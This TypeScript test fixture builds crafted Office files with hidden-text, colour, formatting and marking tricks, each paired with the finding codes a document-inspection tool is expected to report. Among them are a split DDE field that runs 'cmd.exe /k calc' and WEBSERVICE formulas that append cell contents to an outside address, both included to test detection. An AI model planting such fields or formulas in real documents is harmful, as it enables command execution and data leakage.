import type { FindingCode } from '../../../core/src/inspection/codes.ts'
import {
  docxOf,
  type MadeOffice,
  OFFICE,
  paragraph,
  pptxOf,
  row,
  SPACES,
  shape,
  xlsxOf,
} from '../../../core/src/inspection/testing/office.ts'
import { type Crafted, MARKING, PLAIN } from './crafted.ts'

const WORD = `${OFFICE}wordprocessingml.`
const T = 'The rest of it.'

function word(what: string, body: string, expects: readonly FindingCode[], made: MadeOffice = {}): Crafted {
  const bytes = docxOf(paragraph(MARKING) + body + paragraph(PLAIN), made)
  return { what: `a document with ${what}`, name: 'letter.docx', bytes, expects }
}

const part = (name: string, type: string, text: string, kind = 'part') => ({ parts: [{ name, type, text, kind }] })
const styles = (text: string) =>
  part('word/styles.xml', `${WORD}styles+xml`, `<w:styles ${SPACES}>${text}</w:styles>`, 'styles')
const style = (type: string, properties: string, more = '', id = 'S') =>
  `<w:style w:type="${type}" w:styleId="${id}" ${more}><w:rPr>${properties}</w:rPr></w:style>`
const instruction = (...runs: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('')}` +
  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
const table = (style: string, text: string) =>
  `<w:tbl><w:tblPr><w:tblStyle w:val="${style}"/></w:tblPr><w:tr><w:tc>${text}</w:tc></w:tr></w:tbl>`

const MARKUP: readonly Crafted[] = [
  word('an attribute of another namespace', paragraph(T, '<w:vanish xmlns:x="urn:x" x:val="0"/>'), [
    'hidden-text',
    'foreign-markup',
  ]),
  word('an attribute of no namespace', paragraph(T, '<w:vanish val="0"/>'), ['hidden-text', 'foreign-markup']),
  word(
    'properties of another namespace before its own',
    `<w:p><w:r><x:rPr xmlns:x="urn:x"/><w:rPr><w:vanish/></w:rPr><w:t>${T}</w:t></w:r></w:p>`,
    ['hidden-text', 'foreign-markup'],
  ),
  word(
    'properties among alternatives',
    `<w:p><w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:rPr><w:vanish/></w:rPr></mc:Choice></mc:AlternateContent><w:t>${T}</w:t></w:r></w:p>`,
    ['foreign-markup'],
  ),
  word('its properties twice', `<w:p><w:r><w:rPr/><w:rPr><w:vanish/></w:rPr><w:t>${T}</w:t></w:r></w:p>`, [
    'foreign-markup',
  ]),
  word('one property twice', paragraph(T, '<w:vanish/><w:vanish w:val="0"/>'), ['foreign-markup']),
  word('text of another namespace', '<x:t xmlns:x="urn:x">TOP SECRET</x:t>', [
    'foreign-markup',
    'hidden-text',
    'marking-above-label',
  ]),
  word('text where there is none', '<w:tblGrid>the rest</w:tblGrid>', ['hidden-text']),
  word('a marking as an identifier', `<w:bookmarkStart w:id="1" w:name="SECRET"/>${paragraph(T)}`, [
    'marking-above-label',
  ]),
  word('a marking as an unknown namespace', `<w:p xmlns:x="SECRET"><w:r><w:t>${T}</w:t></w:r></w:p>`, [
    'marking-above-label',
  ]),
  word(
    'a marking as the number of a paragraph',
    '',
    ['marking-above-label'],
    part(
      'word/numbering.xml',
      `${WORD}numbering+xml`,
      `<w:numbering ${SPACES}><w:lvl><w:lvlText w:val="SECRET"/></w:lvl></w:numbering>`,
    ),
  ),
  word(
    'the bullets of its lists',
    '',
    [],
    part(
      'word/numbering.xml',
      `${WORD}numbering+xml`,
      `<w:numbering ${SPACES}><w:lvl><w:lvlText w:val="\uf0b7"/></w:lvl></w:numbering>`,
    ),
  ),
  word(
    'shared texts of a book',
    '',
    ['part-unknown', 'part-unreferenced', 'marking-above-label'],
    part('word/x.xml', `${OFFICE}spreadsheetml.sharedStrings+xml`, '<sst><si><t>TOP SECRET</t></si></sst>'),
  ),
  word(
    'a property’s name',
    '',
    ['properties', 'marking-above-label'],
    part(
      'docProps/custom.xml',
      `${OFFICE}custom-properties+xml`,
      '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property name="TOP SECRET"/></Properties>',
    ),
  ),
  ...[
    ['Microsoft Office Word', []],
    ['J. Smith, file 4471', ['properties' as const]],
  ].map(([program, expects]) =>
    word(
      `the program ${program}`,
      '',
      expects as readonly FindingCode[],
      part(
        'docProps/app.xml',
        `${OFFICE}extended-properties+xml`,
        `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>${program}</Application></Properties>`,
      ),
    ),
  ),
]

const notes = (id: string, more = '') =>
  part(
    'word/footnotes.xml',
    `${WORD}footnotes+xml`,
    `<w:footnotes ${SPACES}><w:footnote w:id="${id}" ${more}>${paragraph(T)}</w:footnote><w:footnote w:type="separator" w:id="-1"><w:p/></w:footnote></w:footnotes>`,
  )
const NOTED = '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'

const NOTES: readonly Crafted[] = [
  word('a note', NOTED, [], notes('1')),
  word('a note that nothing refers to', NOTED, ['hidden-text'], notes('2')),
  word('a note that says it is a line', '', ['hidden-text'], notes('0', 'w:type="separator"')),
  word(
    'a header that no page has',
    '',
    ['hidden-text'],
    part('word/header1.xml', `${WORD}header+xml`, `<w:hdr ${SPACES}>${paragraph(T)}</w:hdr>`),
  ),
]

const LOOKS: readonly Crafted[] = [
  word('hidden text that is shown on the web', paragraph(T, '<w:vanish/><w:webHidden w:val="0"/>'), ['hidden-text']),
  word(
    'a default style that hides',
    '',
    ['hidden-text', 'marking-missing'],
    styles(style('paragraph', '<w:vanish/>', 'w:default="1"')),
  ),
  word(
    'a default style that hides, and a text that says no',
    paragraph(T, '<w:vanish w:val="false"/>'),
    ['hidden-text', 'marking-missing'],
    styles(style('paragraph', '<w:vanish/>', 'w:default="true"')),
  ),
  word('a table’s style that hides', table('S', paragraph(T)), ['hidden-text'], styles(style('table', '<w:vanish/>'))),
  word(
    'a table’s style that hides in its first row',
    table('S', paragraph(T)),
    ['pale-text'],
    styles(
      '<w:style w:type="table" w:styleId="S"><w:tblStylePr w:type="firstRow"><w:rPr><w:color w:val="FFFFFF"/></w:rPr></w:tblStylePr></w:style>',
    ),
  ),
  word(
    'two styles that hide',
    `<w:p><w:pPr><w:pStyle w:val="S"/></w:pPr><w:r><w:rPr><w:rStyle w:val="C"/></w:rPr><w:t>${T}</w:t></w:r></w:p>`,
    ['hidden-text'],
    styles(style('paragraph', '<w:vanish/>') + style('character', '<w:vanish w:val="0"/>', '', 'C')),
  ),
  word('black text marked black', paragraph(T, '<w:highlight w:val="black"/>'), ['white-text']),
  word('text marked yellow', paragraph(T, '<w:highlight w:val="yellow"/>'), []),
  word(
    'black text under a solid pattern',
    paragraph(T, '<w:color w:val="000000"/><w:shd w:val="solid" w:color="000000" w:fill="auto"/>'),
    ['white-text'],
  ),
  word('dark text on nearly the same', paragraph(T, '<w:color w:val="101010"/><w:shd w:fill="1A1A20"/>'), [
    'white-text',
  ]),
  word('text that is nearly the colour behind it', paragraph(T, '<w:color w:val="303030"/><w:shd w:fill="000000"/>'), [
    'pale-text',
  ]),
  word(
    'text in a tint of the theme',
    paragraph(T, '<w:color w:val="000000" w:themeColor="accent1" w:themeTint="05"/>'),
    ['white-text'],
  ),
  word('text filled with nothing', paragraph(T, '<w14:textFill><w14:noFill/></w14:textFill>'), ['hidden-text']),
  word('text filled anyhow', paragraph(T, '<w14:textFill><w14:gradFill/></w14:textFill>'), ['pale-text']),
  word('letters of no width', paragraph(T, '<w:w w:val="1"/>'), ['tiny-text']),
  word(
    'a hidden shape, said in words',
    `<w:p><w:r><w:drawing><wp:docPr id="1" hidden="true"/></w:drawing></w:r></w:p>`,
    ['hidden-text'],
  ),
  word(
    'text in a shape of its colour',
    `<w:p><w:r><wps:wsp><wps:spPr><a:solidFill><a:srgbClr val="000000"/></a:solidFill></wps:spPr><w:txbxContent>${paragraph(T, '<w:color w:val="000000"/>')}</w:txbxContent></wps:wsp></w:r></w:p>`,
    ['white-text'],
  ),
  word(
    'a filled shape before its text',
    '<w:p><w:r><w:drawing><wp:anchor behindDoc="0"><wps:wsp><wps:spPr><a:gradFill/></wps:spPr></wps:wsp></wp:anchor></w:drawing></w:r></w:p>',
    ['pale-text'],
  ),
  word(
    'a filled shape behind its text',
    '<w:p><w:r><w:drawing><wp:anchor behindDoc="1"><wps:wsp><wps:spPr><a:gradFill/></wps:spPr></wps:wsp></wp:anchor></w:drawing></w:r></w:p>',
    [],
  ),
  word('a symbol beyond all letters', '<w:p><w:r><w:sym w:char="FFFFFF"/><w:sym w:char="D800"/></w:r></w:p>', []),
]

const FIELDS: readonly Crafted[] = [
  word('a field of DDE in two pieces', instruction('DDEA', 'UTO c:\\cmd.exe "/k calc"'), ['external-link']),
  word('a field of the page’s number, whole', instruction(' PAGE ', '\\* MERGEFORMAT '), []),
  word('a field that is a link', instruction('HYPERLINK "http://example.org/"'), ['hyperlink']),
  word('a field that links within it', instruction(' HYPERLINK \\l "_Toc1" \\h '), []),
  word('a field of its own name', instruction(' FILENAME '), []),
  word('a field that is not known', instruction(' PRINT "x" '), ['external-link']),
  word(
    'a field made of another',
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>' +
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>REF a</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>' +
      '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ['external-link'],
  ),
]

type Made = Parameters<typeof xlsxOf>[1]

function book(what: string, rows: string, expects: readonly FindingCode[], made: Made = {}, after = ''): Crafted {
  const data = row(1, { A1: MARKING }) + rows + row(99, { A99: PLAIN })
  return { what: `a book with ${what}`, name: 'parts.xlsx', bytes: xlsxOf([{ data, after }], made), expects }
}

const looks = (font: string, fill = '', numbers = '', number = '0', more = '') => ({
  styles:
    `<numFmts>${numbers}</numFmts><fonts><font/><font>${font}</font></fonts><fills><fill/><fill>${fill}</fill></fills>` +
    `<cellXfs><xf/><xf fontId="1" fillId="1" numFmtId="${number}"/></cellXfs>${more}`,
})
const CELL = '<row r="2"><c r="A2" s="1" t="inlineStr"><is><t>the rest</t></is></c></row>'
const COUNT = '<row r="2"><c r="A2" s="1"><v>5</v></c></row>'
const numbers = (code: string) => looks('', '', `<numFmt numFmtId="170" formatCode="${code}"/>`, '170')
const name = (text: string, more = '') => ({
  book: `<definedNames><definedName name="q" ${more}>${text}</definedName></definedNames>`,
})

const BOOKS: readonly Crafted[] = [
  book('white text by its number', CELL, ['white-text'], looks('<color indexed="9"/>')),
  book('white text by a tint', CELL, ['white-text'], looks('<color theme="1" tint="1"/>')),
  book('text in grey', CELL, [], looks('<color theme="1" tint="0.35"/>')),
  book(
    'black text in a black cell',
    CELL,
    ['white-text'],
    looks('', '<patternFill patternType="solid"><fgColor rgb="FF000000"/></patternFill>'),
  ),
  book(
    'a white run of a cell',
    '<row r="2"><c r="A2" t="inlineStr"><is><r><rPr><color rgb="FFFFFFFF"/></rPr><t>the rest</t></r></is></c></row>',
    ['white-text'],
  ),
  book(
    'text in a cell that others cover',
    row(2, { A2: 'x', B2: 'the rest' }),
    ['hidden-cells'],
    {},
    '<mergeCells><mergeCell ref="A2:B2"/></mergeCells>',
  ),
  book('a merged cell', row(2, { A2: 'x' }), [], {}, '<mergeCells><mergeCell ref="A2:B2"/></mergeCells>'),
  book('a marking as a format', COUNT, ['hidden-cells', 'marking-above-label'], numbers('&quot;SECRET&quot;')),
  book('a format with a unit', COUNT, [], numbers('0.0&quot; kg&quot;')),
  book('a format of spaces', COUNT, ['hidden-cells'], numbers('&quot; &quot;;&quot; &quot;')),
  book('a format in white', COUNT, ['white-text'], numbers('[White]0')),
  book(
    'a condition that makes text white',
    '',
    ['pale-text'],
    looks('', '', '', '0', '<dxfs><dxf><font><color rgb="FFFFFFFF"/></font></dxf></dxfs>'),
  ),
  book('a name that is hidden in words', '', ['hidden-cells'], name('Sheet1!A1', 'hidden="true"')),
  book('a name that asks an address', '', ['external-link'], name('WEBSERVICE("http://example.org/")')),
  book('a formula that is a link', '<row r="2"><c r="A2"><f>HYPERLINK("http://example.org/")</f><v>0</v></c></row>', [
    'hyperlink',
  ]),
  book(
    'a formula that makes a link of a cell',
    '<row r="2"><c r="A2"><f>HYPERLINK("http://example.org/"&amp;A1)</f><v>0</v></c></row>',
    ['external-link'],
  ),
  book(
    'a condition that asks an address',
    '',
    ['external-link'],
    {},
    '<conditionalFormatting><cfRule><formula>WEBSERVICE("http://example.org/"&amp;A1)=1</formula></cfRule></conditionalFormatting>',
  ),
  book(
    'a filled shape over its cells',
    '',
    ['pale-text'],
    part(
      'xl/drawings/a.xml',
      `${OFFICE}drawing+xml`,
      `<xdr:wsDr ${SPACES}><xdr:sp><xdr:spPr><a:blipFill/></xdr:spPr></xdr:sp></xdr:wsDr>`,
    ),
  ),
  book('rows that are hidden unless they say otherwise', '', ['hidden-cells'], {}, '<sheetFormatPr zeroHeight="1"/>'),
]

type MadeSlides = Parameters<typeof pptxOf>[1]

function slides(what: string, shapes: string, expects: readonly FindingCode[], made: MadeSlides = {}): Crafted {
  const bytes = pptxOf([shape(MARKING, { y: '5000' }) + shapes], made)
  return { what: `a presentation with ${what}`, name: 'talk.pptx', bytes, expects }
}

const filled = (colour: string) => `<a:solidFill><a:srgbClr val="${colour}"/></a:solidFill>`
const list = (inside: string) => `<a:lstStyle><a:lvl1pPr><a:defRPr ${inside}</a:defRPr></a:lvl1pPr></a:lstStyle>`

const TALKS: readonly Crafted[] = [
  slides('a slide hidden in words', shape(PLAIN), ['hidden-slide'], { show: 'show="false"' }),
  slides('a shape hidden in words', shape(T, { named: 'hidden="true"' }), ['hidden-text']),
  slides('text that its list does not fill', shape(T, { list: list('sz="1800"><a:noFill/>') }), ['hidden-text']),
  slides('text that its list makes tiny', shape(T, { list: list('sz="100">') }), ['tiny-text']),
  slides(
    'black text on a black shape',
    shape(T, { run: `<a:rPr>${filled('000000')}</a:rPr>`, own: filled('000000') }),
    ['white-text'],
  ),
  slides('text of no colour of its own on a black shape', shape(T, { own: filled('000000') }), ['pale-text']),
  slides('text under a shape', shape(T) + shape('x', { own: filled('000000') }), ['covered-text', 'pale-text']),
  slides('text beside a shape', shape(T, { y: '2000' }) + shape('x', { own: filled('EEEEFF') }), []),
  slides('text partly under a shape', shape(T, { y: '500' }) + shape('x', { own: filled('EEEEFF') }), ['pale-text']),
  slides(
    'text that only other programs show',
    `<mc:AlternateContent><mc:Choice Requires="p14">${shape('x')}</mc:Choice><mc:Fallback>${shape(T)}</mc:Fallback></mc:AlternateContent>`,
    ['readings-differ'],
  ),
  slides(
    'a group that is drawn in another size',
    `<p:grpSp><p:grpSpPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/><a:chOff x="0" y="0"/><a:chExt cx="1" cy="1"/></a:xfrm></p:grpSpPr>${shape(T)}</p:grpSp>`,
    ['pale-text'],
  ),
  slides(
    'text shrunk to fit',
    `<p:sp><p:txBody><a:bodyPr><a:normAutofit fontScale="1000"/></a:bodyPr><a:p><a:r><a:t>${T}</a:t></a:r></a:p></p:txBody></p:sp>`,
    ['pale-text'],
  ),
  slides(
    'a marking as a formula',
    `<p:sp><p:txBody><a:p><a14:m xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main"><m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r><m:t>TOP SECRET</m:t></m:r></m:oMath></a14:m></a:p></p:txBody></p:sp>`,
    ['marking-above-label'],
  ),
  slides(
    'a layout whose text is hidden',
    '',
    ['pale-text'],
    part(
      'ppt/slideLayouts/a.xml',
      `${OFFICE}presentationml.slideLayout+xml`,
      `<p:sldLayout ${SPACES}><a:lvl1pPr><a:defRPr sz="100"/></a:lvl1pPr></p:sldLayout>`,
    ),
  ),
]

export const OFFICE_TRICKS: readonly Crafted[] = [...MARKUP, ...NOTES, ...LOOKS, ...FIELDS, ...BOOKS, ...TALKS]
